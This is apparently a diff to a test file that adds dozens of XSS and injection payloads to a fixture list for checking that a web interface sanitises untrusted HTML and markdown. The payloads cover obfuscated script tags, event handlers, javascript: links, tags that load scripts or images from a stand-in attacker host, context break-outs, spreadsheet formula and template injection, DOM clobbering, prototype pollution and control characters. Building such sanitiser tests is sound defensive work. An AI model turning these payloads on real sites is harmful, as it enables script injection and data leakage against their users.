@@ -33,4 +33,59 @@ PAYLOADS = [
     "<textarea></textarea><noscript><p title='</noscript><img src=x onerror=alert(1)>'>",
     "<template><script>window.hacked = 1</script></template><plaintext>",
     f"<body background=http://{EVIL}/b onload=alert(1)><meta http-equiv=refresh content='0;url=http://{EVIL}/'>",
+    # Scripts in other clothes.
+    "<ScRiPt>window.hacked = 1</sCrIpT>",
+    "<script\n>window.hacked = 1</script\n>",
+    "<scr<script>ipt>window.hacked = 1</scr</script>ipt>",
+    f"<script src=//{EVIL}/x.js></script><script src=data:text/javascript,window.hacked=1></script>",
+    f"<script type=module>import 'http://{EVIL}/m.js'</script>",
+    "<svg><script>window.hacked = 1</script></svg><svg><script xlink:href=data:,window.hacked=1 /></svg>",
+    "<!--><script>window.hacked = 1</script--> <!-- --!><script>window.hacked = 1</script>",
+    "<xmp><script>window.hacked = 1</script></xmp><title><script>window.hacked = 1</script></title>",
+    # Handlers.
+    "<img/src/onerror=window.hacked=1> <img src='x'onerror='window.hacked=1'> <image src=x onerror=window.hacked=1>",
+    "<div onmouseover=window.hacked=1 style='position:fixed;inset:0'>x</div>",
+    "<marquee onstart=window.hacked=1>x</marquee><select autofocus onfocus=window.hacked=1>",
+    "<audio src onloadstart=window.hacked=1></audio><keygen autofocus onfocus=window.hacked=1>",
+    "<style onload=window.hacked=1></style><link rel=stylesheet href=data:, onload=window.hacked=1>",
+    "<p style='animation: x' onanimationstart=window.hacked=1></p><style>@keyframes x {}</style>",
+    "<button popovertarget=x onclick=window.hacked=1>y</button><div popover id=x onbeforetoggle=window.hacked=1></div>",
+    # Addresses that run.
+    "<a href=javascript:window.hacked=1>x</a> <a href='java\tscript:window.hacked=1'>x</a>",
+    "<a href=&#106;avascript:window.hacked=1>x</a> <a href=vbscript:x>x</a> <area href=javascript:window.hacked=1>",
+    "[x](<javascript:window.hacked=1>) [x](JaVaScRiPt:window.hacked=1) [x](&#x6A;avascript:window.hacked=1)",
+    "![x](javascript:window.hacked=1) ![x](data:text/html,<script>window.hacked=1</script>)",
+    "<iframe srcdoc='<script>parent.hacked = 1</script>'></iframe><embed src=javascript:window.hacked=1>",
+    "<form action=javascript:window.hacked=1><input type=submit autofocus></form>",
+    # Things that fetch.
+    f"<img srcset='http://{EVIL}/1.png 1x' loading=eager><picture><source srcset=//{EVIL}/2.png></picture>",
+    f"<p style='background: url(http://{EVIL}/b.png)'>x</p><div style=\"--x: url('//{EVIL}')\"></div>",
+    f"<link rel=prefetch href=//{EVIL}/p><link rel=dns-prefetch href=//{EVIL}><link rel=preconnect href=//{EVIL}>",
+    f"<audio autoplay src=//{EVIL}/a></audio><track src=//{EVIL}/t><video poster=//{EVIL}/p></video>",
+    f"[![p](http://{EVIL}/i.png)](http://{EVIL}/) ![x][y]\n\n[y]: http://{EVIL}/ref.png",
+    f"ftp://{EVIL}/x mailto:someone@{EVIL} tel:+123 //{EVIL}/x https://{EVIL}:443/y?z#w xn--evil.example",
+    f"<object type=text/html data=//{EVIL}/o></object><applet code=//{EVIL}/a></applet><portal src=//{EVIL}></portal>",
+    # Things that break out of where they are put.
+    "</textarea></script></style></title></div></article><h1>outside</h1>",
+    "'\"`><b>bold</b> ' onfocus='window.hacked=1' autofocus ' \" onfocus=\"window.hacked=1\" autofocus \"",
+    "<!-- unclosed comment",
+    "<![CDATA[ <b>x</b> ]]> <?xml version='1.0'?> <!DOCTYPE html>",
+    "\\u003cscript\\u003ewindow.hacked=1\\u003c/script\\u003e %3Cscript%3Ewindow.hacked=1%3C/script%3E",
+    '=HYPERLINK("http://evil.example") @SUM(1) +1 -1 | cmd',
+    "{% raw %}{{ 7*7 }}{% endraw %} ${{7*7}} #{7*7} <%= 7*7 %> {{{{x}}}} {#if x}{/if}",
+    "$$\\url{http://evil.example}$$ $\\includegraphics{http://evil.example/x}$ \\htmlId{x}{y}",
+    ":::note\n<b>x</b>\n::: [^1] [^1]: footnote <sup>1</sup> ==mark== :smile: @user #tag",
+    # Markup of the page itself.
+    "<mark id=lit>fake</mark><span class=answer>fake answer</span><p class=error>fake error</p>",
+    "[1](#cite/hostile/0-5) <button class=fn-button value=unedit>x</button> <input id=question value=x>",
+    "<div id=panel><div class=source-scroll>fake panel</div></div><gradio-app></gradio-app>",
+    "<b id=gradio_config>x</b><form name=hacked><input name=x></form><a id=hacked></a>",
+    '__proto__ constructor prototype {"__proto__": {"hacked": 1}}',
 ]
+
+ODD_CHARACTERS = [
+    "null \u0000 byte, \u0007 bell, \u001b[31mred\u001b[0m, \u2028 line \u2029 paragraph",
+    "\uff1cscript\uff1ewindow.hacked=1\uff1c/script\uff1e \u02bcquote\u02bc \ufe64b\ufe65",
+    "a\u0300\u0301\u0302\u0303\u0304\u0305\u0306\u0307 \ud7ff\ue000 \U000e0041\U000e007f \u2066isolate\u2069",
+]
+"""What HTML cannot hold as it is, what moves terminals and text, and what looks like something else."""
